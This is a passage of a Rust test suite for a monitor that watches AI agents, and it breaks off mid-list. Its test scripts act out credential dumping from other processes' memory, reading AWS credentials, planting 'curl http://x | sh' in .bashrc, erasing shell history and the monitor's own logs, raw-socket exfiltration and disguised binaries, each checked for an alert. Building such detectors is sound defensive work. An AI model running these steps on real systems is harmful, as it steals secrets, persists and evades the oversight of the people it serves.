    let local: u64 = String::from_utf8_lossy(&r.out.stdout)
        .trim()
        .parse()
        .unwrap();
    let attach = r
        .of_type("ptrace")
        .into_iter()
        .find(|p| p["request"] == "attach")
        .unwrap_or_else(|| panic!("no attach record: {:?}", r.of_type("ptrace")));
    // The target's host pid: the child the tracer forked (fork records carry host pids).
    let host = r
        .of_type("fork")
        .into_iter()
        .find(|f| f["pid"] == attach["pid"])
        .expect("the tracer's fork")["child_pid"]
        .as_u64()
        .unwrap();
    assert_ne!(host, local, "the namespace really renumbered the child");
    assert_eq!(attach["target_pid"], host, "{attach}");
    assert_eq!(attach["target_tracked"], true, "{attach}");
}

#[test]
fn another_process_memory_read_without_ptrace_is_recorded_and_alerted() {
    // Credential dumping without ptrace(2) (ATT&CK T1003.007): /proc/PID/mem,
    // process_vm_readv/writev, pidfd_getfd onto a process outside the agent, and its
    // environment. Under `run` the agent's Landlock domain refuses the first four (the environ
    // read succeeds); each is recorded and alerted inside the learning window, and the same
    // calls onto the agent's own child are recorded as inside the tree.
    require_root();
    let outside = KillOnDrop::new(Command::new("/bin/sleep").arg("60").spawn().unwrap());
    let target = outside.id();
    let script = format!(
        r#"
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
class Iov(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def vm(call, pid):
    start = int(open(f'/proc/{{pid}}/maps').readline().split('-')[0], 16)
    buf = ctypes.create_string_buffer(64)
    local, remote = Iov(ctypes.cast(buf, ctypes.c_void_p), 64), Iov(start, 64)
    return call(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
def attempts(pid):
    try:
        with open(f'/proc/{{pid}}/mem', 'rb') as f:
            f.seek(int(open(f'/proc/{{pid}}/maps').readline().split('-')[0], 16)); f.read(16)
    except OSError:
        pass
    vm(libc.process_vm_readv, pid)
    fd = os.pidfd_open(pid)
    libc.syscall(438, fd, 0, 0)
    os.close(fd)
try:
    open('/proc/{target}/environ', 'rb').read()
except OSError:
    pass
attempts({target})
vm(libc.process_vm_writev, {target})
child = os.fork()
if child == 0:
    time.sleep(30); os._exit(0)
time.sleep(0.2)
assert vm(libc.process_vm_readv, child) == 64, ctypes.get_errno()
os.kill(child, 9); os.waitpid(child, 0)
"#
    );
    let r = run_under(&[], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let calls: Vec<_> = r.of_type("ptrace");
    let onto = |req: &str, pid: u64| {
        calls
            .iter()
            .any(|p| p["request"] == req && p["target_pid"] == pid && p["tracer_tracked"] == true)
    };
    for req in ["vm_readv", "vm_writev", "pidfd_getfd"] {
        assert!(
            onto(req, target.into()),
            "no {req} onto {target}: {calls:?}"
        );
    }
    let child: Vec<_> = calls
        .iter()
        .filter(|p| p["request"] == "vm_readv" && p["target_tracked"] == true)
        .collect();
    assert_eq!(child.len(), 1, "the read of its own child: {calls:?}");
    let mem = format!("/proc/{target}/mem");
    assert!(
        r.of_type("file_open")
            .iter()
            .any(|f| bytes_of(&f["path"]) == mem.as_bytes()),
        "the /proc/PID/mem open"
    );
    let alerts = r.alerts();
    let summaries: Vec<_> = alerts.iter().map(|a| &a["summary"]).collect();
    let l5: Vec<_> = alerts
        .iter()
        .filter(|a| a["kind"] == "PROCESS_MEMORY_ACCESS" && a["channel"] == "L5")
        .collect();
    assert!(!l5.is_empty(), "{summaries:?}");
    assert!(
        l5.iter().all(|a| a["summary"]
            .as_str()
            .unwrap_or("")
            .contains(&target.to_string())),
        "only the outsider is an alert, the child is inside the window: {summaries:?}"
    );
    assert_alert(&r, "SENSITIVE_FILE", &format!("/proc/{target}/environ"));
}

#[test]
fn proctors_own_reads_of_the_agent_are_not_the_agents_requests() {
    // The seccomp supervisor reads the agent's memory (process_vm_readv) and takes a copy of
    // its descriptor (pidfd_getfd) to judge an F_SETOWN_EX. Those must not be recorded as L5
    // requests, and with ptrace blocked proctor must not kill itself for them (it did).
    let tmp = tempfile::tempdir().unwrap();
    let policy = tmp.path().join("policy.toml");
    std::fs::write(&policy, "[enforce]\nptrace = \"block\"\n").unwrap();
    let script = r#"
import fcntl, os, struct
r, w = os.pipe()
fcntl.fcntl(r, 15, struct.pack('ii', 1, os.getpid()))  # F_SETOWN_EX, F_OWNER_PID
print('set')
"#;
    let r = run_under(
        &["--mode", "enforce", "--policy", policy.to_str().unwrap()],
        &["/usr/bin/python3", "-c", script],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(String::from_utf8_lossy(&r.out.stdout).trim(), "set");
    assert!(r.of_type("ptrace").is_empty(), "{:?}", r.of_type("ptrace"));
}

#[test]
fn a_container_runtime_socket_reached_through_a_hard_link_is_still_that_socket() {
    // A listener the policy names (as it names /run/docker.sock), bound before the run. The
    // agent links it under an innocent name, connects through the link and removes the link:
    // the connect record names the listener's socket file by device and inode, and detection
    // knows it by that identity.
    require_root();
    let tmp = tempfile::tempdir().unwrap();
    let sock = tmp.path().join("runtime.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let policy = tmp.path().join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[files]\nsensitive = {{ extend = [{:?}] }}\n",
            sock.to_str().unwrap()
        ),
    )
    .unwrap();
    let link = tmp.path().join("innocent");
    let script = format!(
        r#"
import os, socket, time
time.sleep(1.5)
os.link({sock:?}, {link:?})
c = socket.socket(socket.AF_UNIX)
c.connect({link:?})
os.unlink({link:?})
c.send(b'POST /containers/create HTTP/1.1\r\n\r\n')
"#,
        sock = sock.to_str().unwrap(),
        link = link.to_str().unwrap()
    );
    let r = run_under(
        &["--baseline", "1s", "--policy", policy.to_str().unwrap()],
        &["/usr/bin/python3", "-c", &script],
    );
    drop(listener);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    use std::os::unix::fs::MetadataExt;
    let id = std::fs::metadata(&sock).unwrap();
    let connect = r
        .of_type("connect")
        .into_iter()
        .find(|c| c["family"] == "unix" && is_path(&c["path"], &link))
        .unwrap_or_else(|| panic!("no connect through the link: {:?}", r.of_type("connect")));
    assert_eq!(connect["peer_ino"], id.ino(), "{connect}");
    assert_eq!(connect["peer_dev"], id.dev(), "{connect}");
    assert_alert(&r, "SENSITIVE_FILE", "sensitive socket, the same socket as");
}

#[test]
fn a_risky_binary_linked_or_copied_under_another_name_is_still_risky() {
    // base64 under an innocent name: a hard link (same device and inode, where the temporary
    // directory shares /usr/bin's file system) and a byte copy (same build-id), both made
    // before the run, so no write-then-exec rule sees them.
    require_root();
    let real = std::fs::canonicalize("/usr/bin/base64").unwrap();
    let dir = tempfile::tempdir_in("/var/tmp").unwrap();
    let linked = dir.path().join("fmtx");
    let linked = std::fs::hard_link(&real, &linked).ok().map(|_| linked);
    let copied = dir.path().join("fmty");
    std::fs::copy(&real, &copied).unwrap();
    let mut script = String::from("import subprocess, time\ntime.sleep(1.5)\n");
    for p in linked.iter().chain([&copied]) {
        script += &format!(
            "subprocess.run([{:?}, '/etc/hostname'], stdout=subprocess.DEVNULL)\n",
            p.to_str().unwrap()
        );
    }
    let r = run_under(&["--baseline", "1s"], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for p in linked.iter().chain([&copied]) {
        assert_alert(
            &r,
            "RISKY_BINARY",
            &format!("{} (rule `base64`)", p.display()),
        );
    }
}

#[test]
fn a_risky_program_that_is_a_script_is_judged_by_its_own_name() {
    // What the kernel executes for a script is its `#!` interpreter; the exec record's file is
    // python or sh and the script's path an argument. Scripts named like risky programs, made
    // before the run (no write-then-exec rule sees them), run by their `#!` line and by hand.
    require_root();
    let dir = tempfile::tempdir_in("/var/tmp").unwrap();
    use std::os::unix::fs::PermissionsExt;
    let make = |name: &str, text: &str| {
        let p = dir.path().join(name);
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p.to_str().unwrap().to_string()
    };
    let twine = make("twine", "#!/usr/bin/python3\nimport sys\n");
    let gcloud = make("gcloud", "#!/bin/sh\ntrue\n");
    let ufw = make("ufw", "import sys\n");
    let script = format!(
        "import subprocess, time\ntime.sleep(1.5)\n\
         subprocess.run([{twine:?}, 'upload', 'dist/x.whl'])\n\
         subprocess.run([{gcloud:?}, 'auth', 'print-access-token'])\n\
         subprocess.run(['/usr/bin/python3', '-u', {ufw:?}, 'disable'])\n\
         subprocess.run([{twine:?}, 'check', 'dist/x.whl'])\n"
    );
    let r = run_under(&["--baseline", "1s"], &["/usr/bin/python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for rule in ["twine upload", "gcloud print-*-token", "ufw"] {
        assert_alert(&r, "RISKY_BINARY", &format!("(rule `{rule}`)"));
    }
    // `twine check` is not an upload.
    let risky = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "RISKY_BINARY")
        .count();
    assert_eq!(risky, 3, "{:?}", r.alerts());
}

#[test]
fn link_layer_frames_from_a_packet_socket_are_not_silent() {
    // A root agent's packet socket sends frames below every network hook (no cgroup program,
    // no address to judge; writev on a bound socket names nothing): the socket is recorded
    // when created, and alerted.
    let script = r#"
import os, socket, time
time.sleep(1.5)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(('lo', 0))
os.writev(s.fileno(), [b'\xff' * 6 + b'\x00' * 6 + b'\x08\x00' + b'EXFIL' * 8])
"#;
    let r = run_under(&["--baseline", "1s"], &["/usr/bin/python3", "-c", script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let sends = r.of_type("send");
    assert!(
        sends
            .iter()
            .any(|s| s["protocol"] == "packet-raw" && s["syscall"] == "socket"),
        "{sends:?}"
    );
    assert_alert(&r, "RAW_PACKET_SOCKET", "created a packet socket");
    // Enforcing a network policy, the agent gets no packet socket at all, nor any other socket
    // the IP hooks do not see (a vsock to the VM's host; TIPC), while IP, unix and netlink
    // sockets are its own as before.
    let tmp = tempfile::tempdir().unwrap();
    let policy = tmp.path().join("policy.toml");
    std::fs::write(&policy, "[enforce]\nnetwork = \"block\"\n").unwrap();
    let script = r#"
import errno, socket
for name, fam, ty in [("packet", socket.AF_PACKET, socket.SOCK_RAW),
                      ("vsock", socket.AF_VSOCK, socket.SOCK_STREAM),
                      ("tipc", 30, socket.SOCK_RDM),
                      ("inet", socket.AF_INET, socket.SOCK_STREAM),
                      ("unix", socket.AF_UNIX, socket.SOCK_STREAM),
                      ("netlink", socket.AF_NETLINK, socket.SOCK_RAW)]:
    try:
        socket.socket(fam, ty).close()
        print(name, "opened")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
"#;
    let r = run_under(
        &["--mode", "enforce", "--policy", policy.to_str().unwrap()],
        &["/usr/bin/python3", "-c", script],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        r.stdout_lines(),
        [
            "packet EPERM",
            "vsock EPERM",
            "tipc EPERM",
            "inet opened",
            "unix opened",
            "netlink opened"
        ],
        "{}",
        r.stderr()
    );
}

#[test]
fn an_open_path_longer_than_the_bound_is_flagged_truncated() {
    let tmp = tempfile::tempdir().unwrap();
    let script = format!(
        r#"
import os
os.chdir({root:?})
for _ in range(40):
    os.mkdir('d' * 200); os.chdir('d' * 200)
open('deep-secret', 'w').write('x')
"#,
        root = tmp.path().to_str().unwrap()
    );
    let r = run_py(&script);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let open = r
        .of_type("file_open")
        .into_iter()
        .find(|o| bytes_of(&o["path"]).ends_with(b"/deep-secret"))
        .unwrap_or_else(|| panic!("no open of deep-secret"));
    assert_eq!(open["path_truncated"], true, "{}", open["path_truncated"]);
}

/// The spellings of Landlock's refused opens, each decision checked: it names the credential
/// file, or, when its process had exited before proctor read the refusal and the spelling needs
/// that process's descriptors (`/proc/self/fd/N`), it says it is unresolved and names nothing.
fn refused_spellings(d: &[&Value], cred: &Path) -> Vec<String> {
    d.iter()
        .map(|x| {
            assert_eq!(
                (&x["what"], &x["verdict"], &x["layer"]),
                (&"open".into(), &"blocked".into(), &"landlock".into()),
                "{x}"
            );
            let requested = String::from_utf8_lossy(&bytes_of(&x["requested"])).into_owned();
            if x["resolution"] == "unresolved" {
                assert!(
                    requested.starts_with("/proc/self/fd/"),
                    "only the descriptor: {x}"
                );
                assert!(x.get("path").is_none(), "{x}");
            } else {
                assert!(is_path(&x["path"], cred), "names the real target: {x}");
                assert!(
                    x.get("resolution").is_none() || x["resolution"] == "remembered",
                    "{x}"
                );
            }
            requested
        })
        .collect()
}

/// An agent HOME holding a credential file and a policy that has Landlock deny it (enforce).
fn credential_behind_landlock() -> (AgentHome, PathBuf, String) {
    require_root();
    let agent = AgentHome::new();
    let cred = agent.file(".aws/credentials", "secret");
    let pol = PolicyBuilder::new()
        .files(Verdict::Block)
        .write(agent.tmp());
    (agent, cred, pol)
}

#[test]
fn a_refused_open_through_a_link_or_proc_self_names_the_real_target() {
    // Landlock layer (files = "block", enforce): each open is refused, and each must leave a
    // decision naming the credential file, not the spelling the agent chose.
    let (agent, cred, pol) = credential_behind_landlock();
    let script = format!(
        r#"
import os
cred = '{c}'
os.symlink(cred, 'link')
fd = os.open(cred, os.O_PATH)
tries = ['link', '/proc/self/root' + cred, '/proc/self/fd/%d' % fd, '../.aws/credentials']
for p in tries:
    try:
        open(p).read(); print('read')
    except PermissionError:
        print('EACCES')
"#,
        c = cred.display()
    );
    let r = agent.enforce_py(Some(&pol), &script);
    let stderr = r.stderr();
    assert!(r.out.status.success(), "{stderr}");
    assert_eq!(r.stdout_lines(), vec!["EACCES"; 4], "{stderr}");
    let d = r.decisions();
    let requested = refused_spellings(&d, &cred);
    let fd_path = |s: &String| s.starts_with("/proc/self/fd/");
    assert_eq!(requested.len(), 4, "{d:?}");
    assert_eq!(requested[0], "link", "{d:?}");
    assert_eq!(requested[1], format!("/proc/self/root{}", cred.display()));
    assert!(fd_path(&requested[2]), "{d:?}");
    assert_eq!(requested[3], "../.aws/credentials");
    let alerts = r.alerts();
    assert!(
        alerts.iter().any(|a| a["kind"] == "FILE_BLOCKED"
            && a["summary"]
                .as_str()
                .unwrap_or("")
                .contains(&cred.display().to_string())),
        "{:?}",
        alerts.iter().map(|a| &a["summary"]).collect::<Vec<_>>()
    );
}

#[test]
fn a_refused_open_by_a_process_that_exits_at_once_still_leaves_its_decision() {
    // Landlock layer, as above, but each spelling is tried by a child that exits right after
    // its open: by the time proctor reads the refusal the process may be gone, with its working
    // directory and descriptors. The refusal must still be a decision: naming the credential
    // file (resolved from the root and working directory proctor remembered), or, for the
    // descriptor only the dead child held, saying it could not be resolved. Never dropped.
    let (agent, cred, pol) = credential_behind_landlock();
    let script = format!(
        r#"
import os
cred = '{c}'
os.symlink(cred, 'link')
tries = ['link', '/proc/self/root' + cred, 'FD', '../.aws/credentials']
for p in tries:
    pid = os.fork()
    if pid == 0:
        if p == 'FD':
            p = '/proc/self/fd/%d' % os.open(cred, os.O_PATH)
        try:
            os.open(p, os.O_RDONLY); os.write(1, b'read\n')
        except PermissionError:
            os.write(1, b'EACCES\n')
        os._exit(0)
    os.waitpid(pid, 0)
"#,
        c = cred.display()
    );
    let r = agent.enforce_py(Some(&pol), &script);
    let stderr = r.stderr();
    assert!(r.out.status.success(), "{stderr}");
    assert_eq!(r.stdout_lines(), vec!["EACCES"; 4], "{stderr}");
    let d = r.decisions();
    assert_eq!(d.len(), 4, "one decision per refused open: {d:#?}");
    refused_spellings(&d, &cred);
}

#[test]
fn a_credential_read_inside_the_learning_window_alerts() {
    // The attack comes first: an agent injected in its first task reads credentials at once,
    // well inside the default 30 s learning window, then leaves. Learning absorbs behaviour
    // (the shell it spawns), not the policy's credential rule.
    let dir = tempfile::tempdir().unwrap();
    let aws = dir.path().join(".aws");
    std::fs::create_dir_all(&aws).unwrap();
    std::fs::write(aws.join("credentials"), "[default]\n").unwrap();
    let script = format!("cat {}/credentials >/dev/null", aws.display());
    let r = run_under(&[], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let alerts = r.alerts();
    let hits: Vec<_> = alerts
        .iter()
        .filter(|a| a["kind"] == "SENSITIVE_FILE")
        .collect();
    assert_eq!(hits.len(), 1, "{alerts:?}");
    assert!(
        r.stderr().contains("ALERT SENSITIVE_FILE"),
        "{}",
        r.stderr()
    );
}

#[test]
fn a_disk_opened_through_a_node_of_the_agents_own_making_is_still_the_disk() {
    // A root agent makes its own node for this host's first block device (and one for the
    // kernel's memory, and one for /dev/null) under names no path rule matches, and reads the
    // disk raw: the kernel says what each node opens.
    let (name, dev) = std::fs::read_dir("/sys/class/block")
        .expect("read /sys/class/block")
        .flatten()
        .filter_map(|e| {
            let dev = std::fs::read_to_string(e.path().join("dev")).ok()?;
            Some((
                e.file_name().to_string_lossy().into_owned(),
                dev.trim().to_string(),
            ))
        })
        .min()
        .expect("this host has a block device");
    let (major, minor) = dev.split_once(':').expect("MAJOR:MINOR");
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import os, stat, sys, time
d, major, minor = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
time.sleep(1.5)
os.mknod(d + '/notes', 0o600 | stat.S_IFBLK, os.makedev(major, minor))
fd = os.open(d + '/notes', os.O_RDONLY)
os.read(fd, 512)
os.close(fd)
os.mknod(d + '/scratch', 0o600 | stat.S_IFCHR, os.makedev(1, 1))
try:
    os.close(os.open(d + '/scratch', os.O_RDONLY))
except OSError as e:
    print('mem', e.errno)
os.mknod(d + '/quiet', 0o600 | stat.S_IFCHR, os.makedev(1, 3))
os.close(os.open(d + '/quiet', os.O_WRONLY))
os.mknod(d + '/view', 0o600 | stat.S_IFCHR, os.makedev(7, 0))
try:
    fd = os.open(d + '/view', os.O_RDONLY)
    os.read(fd, 256)
    os.close(fd)
except OSError as e:
    print('vcs', e.errno)
"#;
    let r = python_with(script, &[tmp.path().to_str().unwrap(), major, minor]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let node = |n: &str| {
        let p = tmp.path().join(n);
        r.of_type("file_open")
            .into_iter()
            .find(|o| is_path(&o["path"], &p))
            .unwrap_or_else(|| panic!("no file_open of {}", p.display()))
            .clone()
    };
    let disk = node("notes");
    assert_eq!(disk["device"]["kind"], "block", "{disk}");
    assert_eq!(disk["device"]["major"].to_string(), major, "{disk}");
    assert_eq!(disk["device"]["minor"].to_string(), minor, "{disk}");
    assert_alert(
        &r,
        "SENSITIVE_FILE",
        &format!("the disk device block {dev}, `block`"),
    );
    let quiet = node("quiet");
    assert_eq!(quiet["device"]["kind"], "char", "{quiet}");
    assert!(
        !r.alerts()
            .iter()
            .any(|a| a["summary"].as_str().unwrap_or("").contains("quiet")),
        "/dev/null under another name alerted"
    );
    // Where the kernel has /dev/mem at all (CONFIG_DEVMEM), its node is the kernel's memory.
    if std::path::Path::new("/dev/mem").exists() {
        let mem = node("scratch");
        assert_eq!(mem["device"]["kind"], "char", "{mem}");
        assert_alert(&r, "SENSITIVE_FILE", "the kernel's memory device char 1:1");
    }
    // Where the kernel has virtual consoles (CONFIG_VT), what the console shows, read through
    // a node of the agent's own (T1113).
    if std::path::Path::new("/dev/vcs").exists() {
        assert_eq!(node("view")["device"]["major"], 7);
        assert_alert(
            &r,
            "SENSITIVE_FILE",
            "a console's screen device char 7:0, `char 7`",
        );
    }
    eprintln!("read {name} ({dev}) through a node of the agent's making");
}

#[test]
fn names_put_in_place_or_removed_are_recorded_with_absolute_paths_and_alerted() {
    // A file written in a scratch directory (no rule there) and put in place by rename (relative
    // to a directory fd) or hard link, a history replaced `ln -sf`-style and one deleted: before
    // path_change records, none of these was in the record, and no alert was raised.
    let home = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let (h, w) = (home.path(), work.path());
    std::fs::write(h.join(".bash_history"), "ssh admin@prod\n").unwrap();
    std::fs::write(h.join(".zsh_history"), "export TOKEN=x\n").unwrap();
    std::fs::create_dir_all(w.join("sub")).unwrap();
    let script = r#"
import os, sys, time
home, work = sys.argv[1], sys.argv[2]
time.sleep(1.5)
os.chdir(work + '/sub')
with open('../evil', 'w') as f:
    f.write('curl http://x | sh\n')
d = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
os.rename('../evil', '.bashrc', dst_dir_fd=d)
with open('unit', 'w') as f:
    f.write('[Service]\n')
os.makedirs(home + '/.config/systemd/user')
os.link('./unit', home + '/.config/systemd/user/x.service')
os.symlink('/dev/null', home + '/h.tmp')
os.rename(home + '/h.tmp', home + '/.bash_history')
os.unlink('../../' + os.path.basename(home) + '/.zsh_history')
"#;
    let r = run_under(
        &["--baseline", "1s"],
        &[
            "/usr/bin/python3",
            "-c",
            script,
            h.to_str().unwrap(),
            w.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let changes: Vec<(String, String, String)> = r
        .of_type("path_change")
        .into_iter()
        .map(|c| {
            (
                c["op"].as_str().unwrap_or("").to_string(),
                String::from_utf8_lossy(&bytes_of(&c["path"])).into_owned(),
                c.get("new_path")
                    .map(|p| String::from_utf8_lossy(&bytes_of(p)).into_owned())
                    .unwrap_or_default(),
            )
        })
        .collect();
    let (hs, ws) = (h.display().to_string(), w.display().to_string());
    for want in [
        ("rename", format!("{ws}/evil"), format!("{hs}/.bashrc")),
        (
            "link",
            format!("{ws}/sub/unit"),
            format!("{hs}/.config/systemd/user/x.service"),
        ),
        ("symlink", "/dev/null".to_string(), format!("{hs}/h.tmp")),
        (
            "rename",
            format!("{hs}/h.tmp"),
            format!("{hs}/.bash_history"),
        ),
        ("unlink", format!("{hs}/.zsh_history"), String::new()),
    ] {
        // Inside a chroot (the VM tier) the kernel's paths start at the real root.
        assert!(
            changes
                .iter()
                .any(|c| c.0 == want.0 && c.1.ends_with(&want.1) && c.2.ends_with(&want.2)),
            "no {want:?} in {changes:?}"
        );
    }
    assert_alert(
        &r,
        "PERSISTENCE",
        &format!("moved {ws}/evil to {hs}/.bashrc"),
    );
    assert_alert(&r, "PERSISTENCE", "hard-linked");
    assert_alert(
        &r,
        "INDICATOR_REMOVAL",
        &format!("replaced (a rename over it) {hs}/.bash_history"),
    );
    assert_alert(
        &r,
        "INDICATOR_REMOVAL",
        &format!("deleted {hs}/.zsh_history"),
    );
}

#[test]
fn the_agent_removing_or_rewriting_proctors_own_output_is_alerted() {
    // Nothing refuses these to an agent of the same user; they are recorded and alerted, and
    // the alert reaches the outputs that ship it (here the run's own stderr).
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().to_str().unwrap().to_string();
    let script = format!(
        "sleep 1.5; rm -f {out}/baseline.json; : > {out}/alerts.jsonl; mv {out}/audit.jsonl {out}/a"
    );
    let o = run_command(
        dir.path(),
        &["--baseline", "1s"],
        &["/bin/sh", "-c", &script],
    )
    .output()
    .expect("start proctor");
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    for what in [
        format!("unlink of {out}/baseline.json in proctor's output directory"),
        format!("write-open of {out}/alerts.jsonl in proctor's output directory (truncating it)"),
        format!("rename of {out}/audit.jsonl in proctor's output directory"),
    ] {
        assert!(
            err.lines().any(|l| l.contains("PROCTOR_TAMPER")
                && l.contains(&what)
                && !l.contains("BLOCKED")),
            "no tamper alert {what:?} in:\n{err}"
        );
    }
}

#[test]
fn a_script_written_under_another_name_and_renamed_before_it_runs_is_write_then_exec() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import os, subprocess, sys, time
d = sys.argv[1]
time.sleep(1.5)
with open(d + '/notes.txt', 'w') as f:
    f.write('echo staged\n')
os.rename(d + '/notes.txt', d + '/run.sh')
subprocess.run(['/bin/sh', d + '/run.sh'], check=True)
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_alert(
        &r,
        "CAUSAL_CYCLE_DETECTED",
        &format!("{}/run.sh", tmp.path().display()),
    );
}

/// A script the tree wrote and then ran with no exec of the file: sourced (`. F`, or through a
/// variable, `F=...; . "$F"`), fed to a shell on standard input (`sh < F`, `cat F | sh`),
/// `eval`'d (`eval "$(cat F)"`) and run by python's `exec(open(F).read())` (also with the path
/// in a variable) or imported from a directory the code puts on `sys.path` or from the working
/// directory (`python3 -c 'import k'`), or run first by
/// the environment a shell script gives an interpreter (`BASH_ENV=F bash -c ...`,
/// `NODE_OPTIONS="--require F" node ...`). The kernel sees a
/// shell or python whose argv names the file inside its code; each is write-then-exec all the
/// same.
#[test]
fn a_written_script_sourced_or_fed_to_an_interpreter_is_write_then_exec() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().display();
    let script = format!(
        r#"
import os, subprocess, time
time.sleep(1.5)
for n in ['a', 'b', 'c', 'd', 'f', 'i']:
    with open('{d}/' + n + '.sh', 'w') as f:
        f.write('echo staged\n')
with open('{d}/j.js', 'w') as f:
    f.write('1;\n')
for n in ['e.py', 'g.py', 'lib/h.py', 'k.py']:
    os.makedirs('{d}/lib', exist_ok=True)
    with open('{d}/' + n, 'w') as f:
        f.write('print(1)\n')
for cmd in ['. {d}/a.sh', 'sh < {d}/b.sh', 'cat {d}/c.sh | sh', 'eval "$(cat {d}/d.sh)"',
            'F={d}/f.sh; . "$F"', 'BASH_ENV={d}/i.sh bash -c true',
            'NODE_OPTIONS="--require {d}/j.js" /usr/bin/node -e 1']:
    subprocess.run(['/bin/bash', '-c', cmd], check=True)
for code in ["exec(open('{d}/e.py').read())", "f = '{d}/g.py'; exec(open(f).read())",
             "import sys; sys.path.insert(0, '{d}/lib'); import h", "import k"]:
    subprocess.run(['/usr/bin/python3', '-c', code], check=True, cwd='{d}')
"#
    );
    let r = python_in(&script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for n in [
        "a.sh", "b.sh", "c.sh", "d.sh", "e.py", "f.sh", "g.py", "lib/h.py", "i.sh", "j.js", "k.py",
    ] {
        assert_alert(&r, "CAUSAL_CYCLE_DETECTED", &format!("{d}/{n}"));
    }
}

/// A jar, class or source file the tree wrote that a real JVM runs, with no exec of the file:
/// a `-javaagent` that `JAVA_TOOL_OPTIONS` (in an environment too large to copy, walked in the
/// kernel), `_JAVA_OPTIONS` (read by javac too) or `JDK_JAVA_OPTIONS` names, `-jar`, a
/// class from `-cp` or `CLASSPATH`, and a source file (`java E.java`). The agent jar is built
/// outside the monitored tree and copied in by the agent; each run prints what the agent ran,
/// so the attack is known to have worked.
#[test]
fn a_written_jar_a_jvm_is_made_to_run_is_write_then_exec() {
    for tool in ["/usr/bin/java", "/usr/bin/javac", "/usr/bin/jar"] {
        assert!(
            Path::new(tool).exists(),
            "{tool} is missing: `make deps` installs openjdk-17-jdk-headless"
        );
    }
    let build = tempfile::tempdir().unwrap();
    let b = build.path();
    std::fs::write(
        b.join("Agent.java"),
        "public class Agent {\n  public static void premain(String a) { System.out.println(\"premain-ran\"); }\n  public static void main(String[] a) { System.out.println(\"main-ran\"); }\n}\n",
    )
    .unwrap();
    std::fs::write(b.join("m.txt"), "Premain-Class: Agent\nMain-Class: Agent\n").unwrap();
    let ok = |c: &mut std::process::Command| {
        let o = c.current_dir(b).output().expect("a JDK tool");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    ok(std::process::Command::new("/usr/bin/javac").arg("Agent.java"));
    ok(std::process::Command::new("/usr/bin/jar").args([
        "cfm",
        "agent.jar",
        "m.txt",
        "Agent.class",
    ]));
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().display();
    let jar = b.join("agent.jar");
    let class = b.join("Agent.class");
    let (jar, class) = (jar.display(), class.display());
    let script = format!(
        r#"
import os, shutil, subprocess, time
time.sleep(1.5)
for n in ['a', 'b', 'c', 'r', 'p', 'q q']:
    shutil.copyfile('{jar}', '{d}/' + n + '.jar')
os.makedirs('{d}/cls', exist_ok=True)
shutil.copyfile('{class}', '{d}/cls/Agent.class')
with open('{d}/E.java', 'w') as f:
    f.write('public class E {{ public static void main(String[] a) {{ System.out.println("source-ran"); }} }}\n')
small = {{'PATH': '/usr/bin:/bin'}}
big = dict(small, PAD='p' * 120000)
runs = [
    (['/usr/bin/java', '-version'], dict(big, JAVA_TOOL_OPTIONS='-Xss2m -javaagent:{d}/a.jar'), 'premain-ran'),
    (['/usr/bin/javac', '-version'], dict(small, _JAVA_OPTIONS='-javaagent:{d}/b.jar'), 'premain-ran'),
    (['/usr/bin/java', '-version'], dict(small, JDK_JAVA_OPTIONS='-javaagent:{d}/c.jar'), 'premain-ran'),
    (['/usr/bin/java', '-jar', '{d}/r.jar'], small, 'main-ran'),
    (['/usr/bin/java', '-cp', '{d}/cls', 'Agent'], small, 'main-ran'),
    (['/usr/bin/java', 'Agent'], dict(small, CLASSPATH='{d}/p.jar'), 'main-ran'),
    (['/usr/bin/java', '{d}/E.java'], small, 'source-ran'),
    (['/usr/bin/java', '-version'], dict(small, JAVA_TOOL_OPTIONS='-javaagent:"{d}/q q.jar"=x'), 'premain-ran'),
]
# More variables than the kernel reads, the agent's last: a blind spot, alerted.
many = dict({{'V%d' % i: '1' for i in range(6000)}}, **small)
runs.append((['/usr/bin/java', '-Dhidden=1', '-version'], dict(many, JAVA_TOOL_OPTIONS='-javaagent:{d}/a.jar'), 'premain-ran'))
for argv, env, said in runs:
    o = subprocess.run(argv, env=env, capture_output=True, text=True)
    assert o.returncode == 0 and said in o.stdout + o.stderr, (argv, o.stdout, o.stderr)
"#
    );
    let r = python_in(&script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for n in [
        "a.jar",
        "b.jar",
        "c.jar",
        "r.jar",
        "cls/Agent.class",
        "p.jar",
        "E.java",
